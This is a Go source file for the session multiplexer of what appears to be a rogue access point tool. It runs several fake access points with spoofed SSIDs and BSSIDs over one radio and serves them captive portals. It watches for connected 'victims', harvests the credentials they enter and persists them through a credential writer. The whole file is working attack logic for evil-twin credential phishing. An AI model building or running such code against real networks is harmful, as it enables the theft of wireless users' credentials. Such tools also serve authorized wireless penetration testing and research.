// Package portal multiplexes a bounded set of fake access point sessions
// over the single shared radio.
package portal

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"time"

	"github.com/google/uuid"
	"github.com/lcalzada-xor/wkarma/internal/core/domain"
	"github.com/lcalzada-xor/wkarma/internal/core/ports"
)

var (
	// ErrNoFreeSlot is returned by Launch when every slot is occupied.
	ErrNoFreeSlot = errors.New("no free portal slot")
	// ErrDuplicateSSID is returned by Launch when a live session already serves the SSID.
	ErrDuplicateSSID = errors.New("ssid already served")
)

// ChannelSetter retunes the radio on behalf of a session.
type ChannelSetter func(ch int) error

// ServiceResult summarizes one Service call.
type ServiceResult struct {
	Locked   bool   // a session held the channel exclusively
	Channel  int    // channel of the serviced session, 0 if none
	Serviced string // ID of the serviced session
	Captured int    // credentials persisted this tick
	Expired  int    // sessions removed for idleness
}

// Multiplexer owns the session arena. Slots are addressed by index and
// released through a single teardown path. Not safe for concurrent use.
type Multiplexer struct {
	portal ports.CaptivePortal
	creds  ports.CredentialWriter
	logger *slog.Logger

	slots    []*domain.PortalSession
	activity []*domain.NetworkActivityRecord
	cursor   int

	captured uint64
	launched uint64
	failed   uint64
}

// New creates a multiplexer with capacity slots.
func New(portal ports.CaptivePortal, creds ports.CredentialWriter, capacity int, logger *slog.Logger) *Multiplexer {
	if capacity <= 0 {
		capacity = domain.MaxSessions
	}
	if logger == nil {
		logger = slog.Default()
	}
	return &Multiplexer{
		portal:   portal,
		creds:    creds,
		logger:   logger.With("component", "portal"),
		slots:    make([]*domain.PortalSession, capacity),
		activity: make([]*domain.NetworkActivityRecord, capacity),
	}
}

// Launch creates a session for req. req.BSSID is the address the fake access
// point transmits from. Creation failure leaves no session behind.
// Every session gets SessionIdleCeiling as its idle timeout; req.Duration is
// advisory and never shortens a live session.
func (m *Multiplexer) Launch(req domain.AttackRequest, now time.Time) error {
	if _, ok := m.Find(req.SSID); ok {
		return ErrDuplicateSSID
	}
	slot := m.freeSlot()
	if slot < 0 {
		return ErrNoFreeSlot
	}

	opts := domain.PortalOptions{
		BSSID:     req.BSSID,
		TargetMAC: req.TargetMAC,
		Security:  req.Security,
		Tier:      req.Tier,
	}
	handle, err := m.portal.Create(req.SSID, req.Channel, opts)
	if err != nil {
		m.failed++
		return fmt.Errorf("create portal: %w", err)
	}

	s := &domain.PortalSession{
		ID:            uuid.NewString(),
		Slot:          slot,
		SSID:          req.SSID,
		Channel:       req.Channel,
		BSSID:         append(net.HardwareAddr(nil), req.BSSID...),
		Security:      req.Security,
		Tier:          req.Tier,
		Handle:        handle,
		State:         domain.PortalCreated,
		LaunchedAt:    now,
		LastHeartbeat: now,
		IdleTimeout:   domain.SessionIdleCeiling,
	}
	m.slots[slot] = s
	m.activity[slot] = &domain.NetworkActivityRecord{
		SSID:         req.SSID,
		Channel:      req.Channel,
		BSSID:        s.BSSID,
		Security:     req.Security,
		LastActivity: now,
	}
	m.launched++
	m.logger.Info("session launched", "id", s.ID, "ssid", s.SSID, "channel", s.Channel, "tier", s.Tier.String(), "slot", slot)
	return nil
}

// Service runs one multiplexer tick: harvest credentials from every session,
// expire idle sessions, then service either the locked session or the next
// session in round robin order.
func (m *Multiplexer) Service(ctx context.Context, now time.Time, setChannel ChannelSetter) ServiceResult {
	var res ServiceResult

	for i, s := range m.slots {
		if s == nil {
			continue
		}
		if m.harvest(ctx, s, now) {
			res.Captured++
			m.teardown(i, domain.PortalCredentialCaptured)
			continue
		}
		if now.Sub(lastActivity(s)) > s.IdleTimeout {
			res.Expired++
			m.teardown(i, domain.PortalIdleTimeout)
		}
	}

	idx := m.lockedSlot(now)
	if idx >= 0 {
		res.Locked = true
	} else {
		idx = m.nextRoundRobin()
	}
	if idx < 0 {
		return res
	}

	s := m.slots[idx]
	if res.Locked {
		s.State = domain.PortalLocked
	} else {
		s.State = domain.PortalRoundRobin
	}
	res.Channel = s.Channel
	res.Serviced = s.ID

	// Failures are not retried within the tick; the session gets its next turn.
	if err := setChannel(s.Channel); err != nil {
		m.logger.Debug("channel switch failed", "id", s.ID, "channel", s.Channel, "error", err)
		return res
	}
	n, err := m.portal.ProcessRequests(s.Handle)
	if err != nil {
		m.logger.Debug("process requests failed", "id", s.ID, "error", err)
		return res
	}
	s.LastHeartbeat = now
	if n > 0 {
		s.VictimConnected = true
		s.LastVictimActivity = now
		m.activity[idx].LastActivity = now
	}
	return res
}

// harvest persists a pending credential. It reports true when the session
// must be removed; the write is attempted exactly once.
func (m *Multiplexer) harvest(ctx context.Context, s *domain.PortalSession, now time.Time) bool {
	if !m.portal.HasCredentials(s.Handle) {
		return false
	}
	cred, ok := m.portal.TakeCredential(s.Handle)
	if !ok {
		return false
	}
	if cred.ID == "" {
		cred.ID = uuid.NewString()
	}
	cred.SessionID = s.ID
	if cred.SSID == "" {
		cred.SSID = s.SSID
	}
	cred.APName = m.portal.APName(s.Handle)
	if cred.CapturedAt.IsZero() {
		cred.CapturedAt = now
	}

	s.MarkedForRemoval = true
	s.CapturedCredential = &cred
	s.State = domain.PortalCredentialCaptured
	m.captured++

	if err := m.creds.WriteCredential(ctx, cred); err != nil {
		m.logger.Warn("credential write failed", "id", s.ID, "ssid", s.SSID, "error", err)
	} else {
		m.logger.Info("credential captured", "id", s.ID, "ssid", s.SSID, "ap", cred.APName)
	}
	return true
}

func lastActivity(s *domain.PortalSession) time.Time {
	if s.LastVictimActivity.After(s.LaunchedAt) {
		return s.LastVictimActivity
	}
	return s.LaunchedAt
}

// lockedSlot returns the slot of a session whose victim was active within
// VictimActivityWindow, preferring the most recent activity, or -1.
func (m *Multiplexer) lockedSlot(now time.Time) int {
	best := -1
	for i, s := range m.slots {
		if s == nil || !s.VictimConnected {
			continue
		}
		if now.Sub(s.LastVictimActivity) > domain.VictimActivityWindow {
			continue
		}
		if best < 0 || s.LastVictimActivity.After(m.slots[best].LastVictimActivity) {
			best = i
		}
	}
	return best
}

func (m *Multiplexer) nextRoundRobin() int {
	n := len(m.slots)
	for k := 0; k < n; k++ {
		i := (m.cursor + k) % n
		if m.slots[i] != nil {
			m.cursor = (i + 1) % n
			return i
		}
	}
	return -1
}

func (m *Multiplexer) freeSlot() int {
	for i, s := range m.slots {
		if s == nil {
			return i
		}
	}
	return -1
}

// teardown is the single exit path for a session: the handle is destroyed
// and the slot freed.
func (m *Multiplexer) teardown(i int, reason domain.PortalState) {
	s := m.slots[i]
	if s == nil {
		return
	}
	s.State = reason
	m.portal.Destroy(s.Handle)
	m.logger.Info("session removed", "id", s.ID, "ssid", s.SSID, "reason", reason.String())
	s.State = domain.PortalTeardown
	s.Handle = nil
	m.slots[i] = nil
	m.activity[i] = nil
}

// Teardown destroys every session.
func (m *Multiplexer) Teardown() {
	for i := range m.slots {
		m.teardown(i, domain.PortalTeardown)
	}
	m.cursor = 0
}

// Find returns the live session serving ssid.
func (m *Multiplexer) Find(ssid string) (domain.PortalSession, bool) {
	for _, s := range m.slots {
		if s != nil && s.SSID == ssid {
			return *s, true
		}
	}
	return domain.PortalSession{}, false
}

// DueBeacons returns the activity records on channel whose last beacon is at
// least interval old. Callers stamp LastBeaconSent after transmitting.
func (m *Multiplexer) DueBeacons(channel int, now time.Time, interval time.Duration) []*domain.NetworkActivityRecord {
	var out []*domain.NetworkActivityRecord
	for _, r := range m.activity {
		if r != nil && r.Channel == channel && now.Sub(r.LastBeaconSent) >= interval {
			out = append(out, r)
		}
	}
	return out
}

// Sessions returns copies of the live sessions.
func (m *Multiplexer) Sessions() []domain.PortalSession {
	var out []domain.PortalSession
	for _, s := range m.slots {
		if s != nil {
			out = append(out, *s)
		}
	}
	return out
}

// Len returns the number of live sessions.
func (m *Multiplexer) Len() int {
	n := 0
	for _, s := range m.slots {
		if s != nil {
			n++
		}
	}
	return n
}

// Free returns the number of free slots.
func (m *Multiplexer) Free() int {
	return len(m.slots) - m.Len()
}

// CountTier returns the number of live sessions of tier.
func (m *Multiplexer) CountTier(tier domain.Tier) int {
	n := 0
	for _, s := range m.slots {
		if s != nil && s.Tier == tier {
			n++
		}
	}
	return n
}

// Captured returns the number of credentials harvested.
func (m *Multiplexer) Captured() uint64 { return m.captured }

// Launched returns the number of sessions created.
func (m *Multiplexer) Launched() uint64 { return m.launched }

// Failed returns the number of portal creation failures.
func (m *Multiplexer) Failed() uint64 { return m.failed }
